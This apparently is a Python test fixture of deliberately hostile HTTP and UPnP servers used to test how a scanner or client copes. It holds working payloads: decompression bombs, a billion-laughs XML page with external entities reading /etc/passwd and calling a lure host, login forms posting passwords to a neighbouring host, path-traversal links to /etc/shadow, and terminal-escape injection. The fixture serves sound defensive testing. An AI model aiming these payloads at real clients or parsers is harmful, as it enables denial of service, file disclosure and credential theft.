# Hostile behaviours of web content and web logins: bombs, depth, entities, lures in pages, passwords that mean nothing.
# SPDX-License-Identifier: Apache-2.0
import base64
import functools
import gzip
import itertools
import struct
import zlib

from hostile_kit import HEAD, LURES, LURES6, NASTY, over_tcp, read_head, requests, respond

ACCOUNT, PASSWORD = b"owner", b"Kitsune-7731-Mori"
tries = []  # passwords that were judged


@functools.cache
def bomb(packer):
    """100 MB of zeros, packed to some 100 KB."""
    return packer(b"\0" * 100_000_000)


@over_tcp(80, "http")
def gzip_bomb(peer):
    """A compressed body of 100 KB that unpacks to 100 MB, though nobody offered to unpack."""
    while read_head(peer):
        respond(peer, bomb(gzip.compress), b"Content-Encoding: gzip\r\n")


@over_tcp(80, "http")
def deflate_bomb(peer):
    """The same by deflate, claimed three times over and as a transfer coding, too."""
    while read_head(peer):
        respond(peer, bomb(zlib.compress), b"Content-Encoding: deflate, deflate, br\r\nTE: deflate\r\n")


@over_tcp(80, "http")
def deep_json(peer):
    """JSON that nests 200,000 deep."""
    while read_head(peer):
        respond(peer, b'{"a":[' * 100_000, kind=b"application/json")


@over_tcp(80, "http")
def xml_entities(peer):
    """An XML page of entities that unfold to a billion words, and one that names a file and a neighbour."""
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    page = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">' + entities + b'<!ENTITY f SYSTEM "file:///etc/passwd">'
            b'<!ENTITY n SYSTEM "http://' + LURES[0].encode() + b'/x">]><root><device><modelName>&l9;&f;&n;</modelName></device></root>')
    while read_head(peer):
        respond(peer, page, kind=b"text/xml")


@over_tcp(80, "http")
def deep_html(peer):
    """HTML that nests 100,000 deep, never closes an attribute and hides a title in a comment."""
    while read_head(peer):
        respond(peer, b"<div>" * 100_000 + b"<!-- <title>no</title> <input type=password name=p value='" + b"<" * 10_000)


@over_tcp(80, "http")
def thousands_of_forms(peer):
    """A page with 20,000 login forms of 10 fields each."""
    form = b"<form action=/l method=post><input name=u><input type=password name=p>" + b"<input type=hidden name=h value=1>" * 8 + b"</form>"
    page = b"<html><title>log in</title>" + form * 5000
    while read_head(peer):
        respond(peer, page)


@over_tcp(80, "http")
def form_posts_elsewhere(peer):
    """Its login form posts to a neighbour, so that a password would go there; so do its base, refresh and images."""
    place = b"http://" + LURES[1].encode()
    page = (b"<html><head><base href='" + place + b"/'><meta http-equiv=refresh content='0;url=" + place + b"/'><title>Log in</title></head>"
            b"<form method=post action='" + place + b"/login'><input name=user><input type=password name=password></form>"
            b"<img src='" + place + b"/i'><script src='//" + LURES[0].encode() + b"/s.js'></script><iframe src='http://["
            + LURES6[1].encode() + b"]/'></iframe>")
    while read_head(peer):
        respond(peer, page)


@over_tcp(80, "http")
def redirects_the_password(peer):
    """Asks for a password and redirects whoever brings one to a neighbour."""
    while head := read_head(peer):
        if b"\r\nauthorization:" in head.lower():
            respond(peer, b"", b"Location: http://" + LURES[0].encode() + b"/home\r\n", b"307 Temporary Redirect")
        else:
            respond(peer, b"", b'WWW-Authenticate: Basic realm="x"\r\n', b"401 Unauthorized")


@over_tcp(80, "http")
def digest_challenge_bomb(peer):
    """A challenge with 2,000 schemes, a nonce of 60 KB, an unknown algorithm and a domain next door (RFC 7616, 3.3)."""
    many = b", ".join(b'Scheme%d realm="r%d"' % (n, n) for n in range(2000))
    while read_head(peer):
        which = next(requests) % 3
        challenge = (many, b'Digest realm="d", qop="auth,auth-int", algorithm=MD999, nonce="' + b"n" * 60_000 + b'"',
                     b'Digest realm="d", nonce="1", stale=true, domain="http://' + LURES[0].encode() + b'/"')[which]
        respond(peer, b"", b"WWW-Authenticate: " + challenge + b"\r\n", b"401 Unauthorized")


@over_tcp(80, "http")
def accepts_every_password(peer):
    """Answers every login with success, right or wrong, so that no default password can be proven."""
    while read_head(peer):
        respond(peer, b"welcome", b"Set-Cookie: session=%d\r\n" % next(requests))


@over_tcp(80, "http")
def locks_everybody_out(peer):
    """Judges two wrong passwords and from then on refuses everybody, from everywhere, for good."""
    while head := read_head(peer):
        if b"\r\nauthorization: basic " in head.lower():
            tries.append(True)
        if len(tries) > 2:
            respond(peer, b"locked", status=b"403 Forbidden")
        else:
            respond(peer, b"", b'WWW-Authenticate: Basic realm="lock"\r\n', b"401 Unauthorized")


@over_tcp(80, "http")
def judges_by_chance(peer):
    """Every seventh password is right, whatever it is."""
    while head := read_head(peer):
        if b"\r\nauthorization:" in head.lower() and next(requests) % 7 == 0:
            respond(peer, b"<title>settings</title>come in")
        else:
            respond(peer, b"", b'WWW-Authenticate: Basic realm="dice"\r\n', b"401 Unauthorized")


@over_tcp(80, "http")
def shows_the_password(peer):
    """Gives back whatever password it was sent, plain, in base64 and in hexadecimal."""
    while head := read_head(peer):
        word = b""
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"authorization: basic "):
                word = base64.b64decode(line[21:] + b"==")
        respond(peer, b"<title>" + word + b"</title>" + word.hex().encode() + b" " + base64.b64encode(word), b"Server: " + word + b"\r\n"
                + b'WWW-Authenticate: Basic realm="' + word + b'"\r\n', b"401 Unauthorized")


@over_tcp(80, "http")
def terminal_escapes(peer):
    """A banner and a page title full of terminal escapes, bidi overrides and markup, to test what reports print."""
    text = NASTY + b"\x00"
    peer.settimeout(1)
    try:
        read_head(peer)
    except TimeoutError:
        pass
    respond(peer, b"<html><title>" + text + b"</title></html>", b"Server: " + text.replace(b"\x00", b"") + b"\r\n")


@over_tcp(80, "http")
def path_tricks(peer):
    """Names of documents that climb out of every folder, in headers and links."""
    up = b"../../../../../../etc/cron.d/x\0.html"
    page = b"".join(b"<a href='%s'>security policy</a>" % one for one in (
        up, b"/" + up, b"%2e%2e%2f%2e%2e%2fetc%2fpasswd", b"..\\..\\windows\\x", b"file:///etc/shadow", b"/a//..//b/./../" * 500, b"\xff" * 300))
    while read_head(peer):
        respond(peer, page, b'Content-Disposition: attachment; filename="' + up.replace(b"\0", b"") + b'"\r\n')


@over_tcp(80, "http")
def websocket_giant_frame(peer):
    """Agrees to a WebSocket and announces a frame of 2^63 bytes, then fragments without end (RFC 6455, 5.2)."""
    read_head(peer)
    peer.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
    peer.sendall(b"\x82\x7f" + struct.pack(">Q", (1 << 63) - 1))
    while True:
        peer.sendall(b"\x00\x7e\xff\xff" + b"f" * 65535)


@over_tcp(1900, "http")
def upnp_description_bomb(peer):
    """A UPnP description with 20,000 services, all of them at a neighbour, and control addresses that climb."""
    service = (b"<service><serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType><SCPDURL>http://" + LURES[0].encode() +
               b"/scpd</SCPDURL><controlURL>//" + LURES[1].encode() + b"/../ctl</controlURL></service>")
    page = (b"<?xml version='1.0'?><root xmlns='urn:schemas-upnp-org:device-1-0'><URLBase>http://" + LURES[0].encode() +
            b"/</URLBase><device><modelName>" + b"M" * 100_000 + b"</modelName><serviceList>" + service * 20_000)
    while read_head(peer):
        respond(peer, page, kind=b"text/xml")


@over_tcp(80, "http")
def soap_fault_storm(peer):
    """Answers every request with a SOAP envelope of 50,000 faults that never closes."""
    read_head(peer)
    peer.sendall(HEAD + b"\r\n<s:Envelope xmlns:s='http://www.w3.org/2003/05/soap-envelope'><s:Body>")
    for number in itertools.count():
        peer.sendall(b"<s:Fault><s:Reason>%d</s:Reason>" % number * 20)


@over_tcp(8080, "http")
def healthy(peer):
    """Does everything right: a web server with one password, which must be judged right whatever its neighbours do."""
    wanted = b"authorization: basic " + base64.b64encode(ACCOUNT + b":" + PASSWORD)
    while head := read_head(peer):
        if any(line[:21].lower() + line[21:] == wanted for line in head.split(b"\r\n")):
            respond(peer, b"<html><title>Settings</title>device settings and the network key</html>")
        else:
            respond(peer, b"<html><title>Log in</title>not without a password</html>", b'WWW-Authenticate: Basic realm="box"\r\n', b"401 Unauthorized")
